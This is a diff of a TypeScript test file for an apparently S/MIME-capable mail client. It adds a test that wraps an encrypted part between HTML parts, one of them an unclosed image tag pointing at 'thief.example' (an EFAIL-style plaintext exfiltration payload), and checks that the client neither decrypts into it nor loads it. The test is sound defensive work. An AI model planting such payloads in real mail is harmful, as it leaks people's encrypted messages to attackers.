@@ -87,8 +87,11 @@ const LETTER = fromText(
 
 const signed = () =>
   signPart(LETTER, { key: li.key, certificate: li.certificate, chain: [], at: new Date(NOW - 60_000) })
-const headed = (part: Uint8Array) =>
-  new Blob([`From: "=?utf-8?B?5p2O5aic?=" <${LI}>\r\nSubject: plan\r\nX-Other: x\r\n`, new Uint8Array(part)])
+const headed = (...parts: readonly (Uint8Array | string)[]) =>
+  new Blob([
+    `From: "=?utf-8?B?5p2O5aic?=" <${LI}>\r\nSubject: plan\r\nX-Other: x\r\n`,
+    ...parts.map((part) => (typeof part === 'string' ? part : new Uint8Array(part))),
+  ])
 
 let shell: TestShell
 let show: Awaited<ReturnType<typeof renderInShell>> | null = null
@@ -141,13 +144,8 @@ async function open(mail: Blob, from = LI) {
 const press = (name: string) =>
   act(async () => [...document.querySelectorAll('button')].findLast((one) => one.textContent === name)?.click())
 
-test('given an encrypted letter, then the PIN opens it in place, and closed keys take it away again', async () => {
-  const encrypting = {
-    recipients: [own.certificate, li.certificate],
-    cipher: 'AES-256-CBC',
-    rsa: 'PKCS1-v1_5',
-  } as const
-  await open(headed(await encryptPart(await signed(), encrypting)))
+/** Enters the PIN in the card of a letter that no open key reads. */
+async function enterPin(): Promise<void> {
   await waitFor(() => expect(text()).toContain(zh.errors['not-a-recipient']))
   await waitFor(() => expect(text()).toContain(zh.intro.unlock))
   await press(zh.intro.unlock)
@@ -157,6 +155,16 @@ test('given an encrypted letter, then the PIN opens it in place, and closed keys
     input?.dispatchEvent(new Event('input', { bubbles: true }))
   })
   await press(zh.unlock.go)
+}
+
+test('given an encrypted letter, then the PIN opens it in place, and closed keys take it away again', async () => {
+  const encrypting = {
+    recipients: [own.certificate, li.certificate],
+    cipher: 'AES-256-CBC',
+    rsa: 'PKCS1-v1_5',
+  } as const
+  await open(headed(await encryptPart(await signed(), encrypting)))
+  await enterPin()
   await waitFor(() => expect(text()).toContain('秘密计划'))
   expect(text()).toContain(zh.layers.encrypted)
   expect(text()).toContain(zh.meanings.good)
@@ -171,6 +179,31 @@ test('given an encrypted letter, then the PIN opens it in place, and closed keys
   await act(async () => closeKeys())
   await waitFor(() => expect(text()).toContain(zh.errors['not-a-recipient']))
   expect(text()).not.toContain('秘密计划')
+})
+
+test('given an encrypted letter between open tags of another, then neither joins it, and nothing of them is asked for', async () => {
+  const encrypting = { recipients: [own.certificate], cipher: 'AES-256-CBC', rsa: 'PKCS1-v1_5' } as const
+  const sealedLetter = await encryptPart(LETTER, encrypting)
+  const mixed = 'Content-Type: multipart/mixed; boundary=E\r\n\r\n--E\r\n'
+  const html = (text: string) => `Content-Type: text/html\r\n\r\n${text}\r\n`
+  const closing = ['\r\n--E\r\n', html('"><p>beside</p>'), '--E--\r\n']
+  // Below the encrypted part, as mailing lists add their text: it opens apart from what stands there.
+  await open(headed(mixed, sealedLetter, ...closing))
+  await enterPin()
+  await waitFor(() => expect(text()).toContain('秘密计划'))
+  expect(text()).toContain(zh.layers.beside_other.replace('{{count}}', '1'))
+  expect(text()).not.toContain('beside')
+  const files = () => shell.calls.filter(({ path }) => path === 'file/mail/7').length
+  const before = files()
+  expect(document.body.innerHTML).not.toContain('thief.example')
+  await show?.unmount()
+  show = null
+  // Before and below it, with the keys open: the letter is none that counts as encrypted.
+  await open(headed(mixed, html('<img src="https://thief.example/?'), '--E\r\n', sealedLetter, ...closing))
+  await waitFor(() => expect(files()).toBeGreaterThan(before))
+  await waitFor(() => expect(document.querySelector('[role=status]')).toBeNull())
+  expect(text()).toBe('')
+  expect(document.body.innerHTML).not.toContain('thief.example')
 })
 
 test('given signed letters, then a change and another sender each have their word', async () => {
